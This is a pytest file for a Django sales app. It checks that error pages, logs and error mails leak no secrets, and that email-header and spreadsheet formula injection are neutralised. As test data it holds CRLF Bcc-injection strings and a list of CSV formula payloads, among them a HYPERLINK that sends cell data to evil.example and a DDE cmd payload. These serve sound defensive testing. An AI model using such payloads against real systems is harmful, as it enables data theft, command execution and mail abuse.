"""What is secret or somebody's stays out of error pages, of the log and of mails about errors; and no text of anybody's
becomes a header of a mail, or a formula. How a line of the log looks is in tests/webhookhub/test_logs.py."""

import csv
import io
import logging

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils.log import AdminEmailHandler

from sales import accounts
from sales.spreadsheets import FORMULA
from tests import factories
from tests.security import production

pytestmark = pytest.mark.django_db

IN_LOCALS, IN_POST, IN_QUERY, IN_WORDS = (
    "whsec_in-locals",
    "posted-Passw0rd",
    "buyer@example.org",
    "told-by-it",
)
SECRETS = (IN_LOCALS, IN_POST, IN_QUERY, IN_WORDS, factories.PASSWORD)


@pytest.fixture(autouse=True)
def _nothing_counted():
    cache.clear()


@pytest.fixture
def fails(monkeypatch, producer):
    """A POST that breaks with secrets wherever they can be."""

    def broken(*_args, **_kwargs):
        secret = IN_LOCALS
        try:
            raise ValueError(f"{IN_WORDS} {secret}")
        except ValueError as error:
            raise RuntimeError(IN_WORDS) from error

    monkeypatch.setattr("sales.views.AccountForm", broken)
    client = Client(raise_request_exception=False)
    client.force_login(producer.user)

    def post(**headers):
        path = f"{reverse('account')}?q={IN_QUERY}"
        return client.post(path, {"password": IN_POST, "name": IN_POST}, headers=headers)

    return post


def told(text: str) -> list[str]:
    return [secret for secret in SECRETS if secret in text]


@pytest.mark.parametrize("headers", [{}, {"HX-Request": "true"}, {"accept": "text/plain"}])
def test_the_page_of_an_error_says_nothing_of_what_broke(fails, headers):
    answer = fails(**headers)
    assert answer.status_code == 500
    assert told(answer.content.decode()) == []
    assert "Traceback" not in answer.content.decode()


def test_the_log_has_the_lines_of_the_traceback_and_no_variable(fails, caplog):
    fails()
    assert "Internal Server Error: /account/" in caplog.text
    assert "Traceback" in caplog.text
    # The words of an exception are its maker's: ours hold no secret, and of others' the log's formatter takes it out.
    assert set(told(caplog.text)) <= {IN_WORDS, IN_LOCALS}
    assert IN_POST not in caplog.text
    assert IN_QUERY not in caplog.text


@pytest.mark.parametrize("html", [False, True])
def test_a_mail_about_an_error_says_where_it_broke_and_not_with_what(
    fails, mailoutbox, settings, monkeypatch, html
):
    settings.ADMINS = [("Operator", "operator@example.com")]
    settings.DEFAULT_EXCEPTION_REPORTER = production.read(monkeypatch)["DEFAULT_EXCEPTION_REPORTER"]
    handler, logger = AdminEmailHandler(include_html=html), logging.getLogger("django.request")
    logger.addHandler(handler)
    try:
        fails()
    finally:
        logger.removeHandler(handler)
    assert mailoutbox  # two: where there are ADMINS, Django sends one by itself
    for mail in mailoutbox:
        text = mail.subject + mail.body + "".join(part.content for part in mail.alternatives)
        assert told(text) == []
        assert "RuntimeError" in text
        assert "ValueError" in text  # what it came from
        assert "sales/views.py" in text


def test_a_wrong_login_leaves_no_password_in_the_log(producer, caplog):
    caplog.set_level(logging.DEBUG)
    Client().post(reverse("account_login"), {"login": producer.email, "password": IN_POST})
    assert IN_POST not in caplog.text


# --- Mails --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    [
        "a@example.com\nBcc: b@example.com",
        "a@example.com\r\nBcc: b@example.com",
        "a@example.com, b@example.com",
        "a@example.com%0aBcc:b@example.com",
        '"a\nBcc: b"@example.com',
    ],
)
def test_nobody_adds_a_recipient_to_a_mail_of_ours(mailoutbox, address):
    answer = Client().post("/accounts/password/reset/", {"email": address})
    assert answer.status_code in (200, 302)
    for mail in mailoutbox:
        assert len(mail.recipients()) == 1
        assert "Bcc" not in mail.message()


def test_the_name_of_a_seller_is_a_name_in_the_invitation(mailoutbox):
    seller = factories.make_seller(login=False, name="Eve\r\nBcc: b@example.com\r\n\r\nhttps://evil.example/")
    accounts.invite(seller)
    (mail,) = mailoutbox
    assert mail.recipients() == [seller.email]
    assert "Bcc" not in mail.message()
    assert "\n" not in mail.subject
    assert not any(line.startswith(("Bcc", "https://evil")) for line in mail.body.splitlines())


# --- Spreadsheets -------------------------------------------------------------------------------------

HARMFUL = [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
]


def cells(answer) -> list[str]:
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    rows = list(csv.reader(io.StringIO(content.decode().removeprefix("\ufeff"))))
    assert len(rows) > 1
    return [cell for row in rows for cell in row]


@pytest.fixture
def harmful():
    """A seller all of whose texts are formulas."""
    seller = factories.make_seller(name=HARMFUL[0])
    for text in HARMFUL:
        product = factories.make_product(seller, name=text)
        factories.make_config(seller, name=text, product=product)
        factories.make_sale(product, buyer_name=text, coupon_code=text, src=text, offer_code=text)
        for kind in ("sent", "pending"):
            factories.make_legacy_post(seller, kind=kind, product_name=text, transaction_code=text)
    return seller


@pytest.mark.parametrize(
    "name", ["deliveries:export", "legacy_posts:sent_export", "legacy_posts:pending_export"]
)
def test_no_cell_of_a_sellers_export_is_a_formula(harmful, name):
    client = Client()
    client.force_login(harmful.user)
    found = cells(client.get(reverse(name)))
    assert [cell for cell in found if cell.startswith(FORMULA)] == []
    assert any(cell.startswith("'") for cell in found)


@pytest.mark.parametrize("model", ["configurations_webhookconfig", "sales_transaction"])
def test_no_cell_of_an_export_of_staff_is_a_formula(harmful, model):
    client = Client()
    client.force_login(factories.make_staff())
    path = reverse(f"admin:{model}_export")
    form = client.get(path).context["form"]
    chosen = {name: "on" for name in form.fields if name not in ("format", "resource", "export_items")}
    found = cells(client.post(path, chosen | {"format": "0", "resource": "0"}))
    assert [cell for cell in found if cell.startswith(FORMULA)] == []
    assert any(cell.startswith("'") for cell in found)
